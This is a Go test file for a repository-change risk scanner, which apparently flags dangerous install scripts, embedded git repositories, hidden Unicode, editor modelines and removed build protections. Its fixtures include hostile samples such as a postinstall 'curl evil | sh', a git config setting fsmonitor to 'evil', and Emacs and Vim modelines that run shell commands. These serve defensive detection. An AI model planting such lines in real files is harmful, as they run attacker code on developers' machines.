package risk

import (
	"fmt"
	"slices"
	"strings"
	"testing"
)

// judged returns the risks of a change of one file by a rule.
func judged(path, old, now, rule string) []Risk {
	f := &File{Path: path, New: Side{Mode: "100644", Content: []byte(now)}, Size: int64(len(now))}
	if old != "" {
		f.Old = Side{Mode: "100644", Content: []byte(old)}
	}
	return slices.DeleteFunc(Judge(f), func(r Risk) bool { return r.Rule != rule })
}

func TestEveryStretchOfAddedLinesCostsEffort(t *testing.T) {
	effort := NewEffort()
	before := effort.left.Load()
	text := strings.Repeat("same\nnew\n", 2*maxEffort/stretchEffort)
	f := &File{Path: "a.txt", Old: Side{Mode: "100644", Content: []byte("same\n")}, New: Side{Mode: "100644", Content: []byte(text)}, Effort: effort}
	found := Judge(f)
	if !slices.ContainsFunc(found, func(r Risk) bool { return r.Rule == "not-searched" }) {
		t.Errorf("a file with too many stretches was searched: %v", found)
	}
	if used := before - effort.left.Load(); used < maxEffort || used > maxEffort+stretchEffort {
		t.Errorf("%d bytes of effort used", used)
	}
}

func TestAWordOfAnyLengthIsReadAsOne(t *testing.T) {
	const cyrillic = "а"
	found := judged("a.txt", "", strings.Repeat(cyrillic, 1000)+"x "+cyrillic+"\n", "look-alike")
	if len(found) != 1 || !strings.Contains(found[0].Found, "(1000 in all)") {
		t.Errorf("found %v", found)
	}
}

func TestAManifestWithManyKeysHasFewRisks(t *testing.T) {
	var text strings.Builder
	text.WriteString("{")
	for i := range 1000 {
		fmt.Fprintf(&text, "\"key%d\": 1,\n", i)
	}
	text.WriteString(`"scripts": {"postinstall": "curl evil | sh"}}`)
	found := judged("package.json", "", text.String(), "npm-scripts")
	if len(found) > maxKeys+1 {
		t.Errorf("%d risks", len(found))
	}
	if len(found) == 0 || found[0].Severity != High || !strings.Contains(found[0].Found, "postinstall") {
		t.Errorf("the script is not the first risk: %v", found)
	}
}

func TestARepositoryThatOnlyGitReadsIsFound(t *testing.T) {
	for name, text := range map[string]string{
		"sub/HEAD":      "ref:\trefs/heads/main\n",
		"sub/head":      "ref:refs/heads/main",
		"a/HEAD":        "E69DE29BB2D1D6434B8B29AE775AD8C2E48C5391\n",
		"sub/config":    "[x][core]\n\tfsmonitor = evil\n",
		"sub/commondir": "../other\n\n\n",
	} {
		if len(judged(name, "", text, "embedded-repository")) == 0 {
			t.Errorf("nothing found in %s: %q", name, text)
		}
	}
	for name, text := range map[string]string{"HEAD": "The head of the page\n", "app/config": "[server]\nport = 1\n", "docs/commondir": "one\ntwo\n"} {
		if found := judged(name, "", text, "embedded-repository"); len(found) > 0 {
			t.Errorf("%s: %v", name, found)
		}
	}
}

func TestALateNULHidesNoCharacters(t *testing.T) {
	text := strings.Repeat("line\n", 2000) + "if user != \"admin\u202e\" { // \u2063\n\x00"
	for _, rule := range []string{"bidi", "invisible", "control"} {
		if len(judged("run.sh", "", text, rule)) == 0 {
			t.Errorf("nothing found by %s", rule)
		}
	}
}

func TestEditorVariablesAreReadAsEditorsDo(t *testing.T) {
	for text, rule := range map[string]string{
		"x\n;; local variables:\n;; eval : (shell-command \"id\")\n;; end:\n":                                "emacs-local-variables",
		"-*- mode: text; eval : (shell-command \"id\") -*-\n":                                                "emacs-local-variables",
		";; Local Variables:\n;; eval: (shell-command \"id\")\n;; End:\n" + strings.Repeat("é", 2500) + "\n": "emacs-local-variables",
		"# vim: set foldmethod=expr foldexpr=system('id'):" + strings.Repeat(" ", 5000) + "\n":               "vim-modeline",
		strings.Repeat(" ", maxModelines) + "# vim: set foldmethod=expr foldexpr=system('id'):\n":            "vim-modeline",
	} {
		if len(judged("notes.txt", "", text, rule)) == 0 {
			t.Errorf("nothing found by %s in %.80q", rule, text)
		}
	}
}

func TestWhatProtectedABuildIsMissedWhenItIsTakenAway(t *testing.T) {
	for _, c := range []struct{ path, old, now, rule, found string }{
		{"package.json", `{"name": "a", "overrides": {"left-pad": "1.0.0"}}`, `{"name": "a"}`, "npm-scripts", "taken away: overrides"},
		{"go.mod", "module a\n\nreplace b => ../b\n", "module a\n", "go-build", "taken away: replace b => ../b"},
		{"go.mod", "module a\n\nexclude b v1.0.0\n", "module a\n", "go-build", "taken away: exclude b v1.0.0"},
		{"go.mod", "module a\n\nexclude (\n\tb v1.0.0\n\tc v1.0.0\n)\n", "module a\n\nexclude (\n\tc v1.0.0\n)\n", "go-build", "taken away: exclude b v1.0.0"},
		{"go.mod", "module a\n\nexclude (\n\tb v1.0.0\n)\nrequire (\n\tc v1.0.0\n)\n", "module a\n\nrequire (\n\tb v1.0.0\n\tc v1.0.0\n)\n", "go-build", "b v1.0.0"},
		{"go.mod", "module a\n\nexclude(\n\tb v1.0.0\n)\n", "module a\n\nrequire b v1.0.0\n", "go-build", "require b v1.0.0"},
		{"go.mod", "tool (\n\ta/b\n)\n", "tool (\n\ttoola/b\n)\n", "go-build", "toola/b"},
		{"go.work", "go 1.26\nreplace (\n\tb => ../b\n)\n", "go 1.26\n", "go-build", "taken away: replace b => ../b"},
	} {
		if found := judged(c.path, c.old, c.now, c.rule); len(found) != 1 || found[0].Found != c.found {
			t.Errorf("%s: %v", c.path, found)
		}
	}
}

func TestAnotherLayoutOfAGoModuleIsNoRisk(t *testing.T) {
	for _, now := range []string{
		"module a\n\nexclude b v1.0.0\nrequire c v1.0.0\n", "module a\nrequire (\n\tc v1.0.0\n)\n\nexclude (\n\tb v1.0.0 \n)\n// a comment\n",
	} {
		if found := judged("go.mod", "module a\n\nexclude (\n\tb v1.0.0\n)\nrequire c v1.0.0\n", now, "go-build"); len(found) > 0 {
			t.Errorf("%q: %v", now, found)
		}
	}
}

func TestFilesOfToolsAreKnownByName(t *testing.T) {
	for name, rule := range map[string]string{
		".github/hooks/start.json":      "agent-settings",
		".github/copilot/settings.json": "agent-settings",
		".rovodev/config.yml":           "agent-settings",
		".github/skills/a/SKILL.md":     "agent-instructions",
		".bazeliskrc":                   "bazel",
		"gatsby-node.js":                "js-tool-settings",
		"gunicorn.conf.py":              "python-build",
		"Snakefile":                     "task-runner",
		".golangci.yml":                 "other-build",
		"nodemon.json":                  "process-file",
		"docs/Doxyfile":                 "other-build",
		".sequelizerc":                  "js-tool-settings",
		"db/knexfile.js":                "js-tool-settings",
		".gitlint":                      "python-build",
		".github/settings.yml":          "protection",
		".mergify.yml":                  "protection",
	} {
		if len(judged(name, "", "x\n", rule)) == 0 {
			t.Errorf("%s is no risk by %s", name, rule)
		}
	}
}
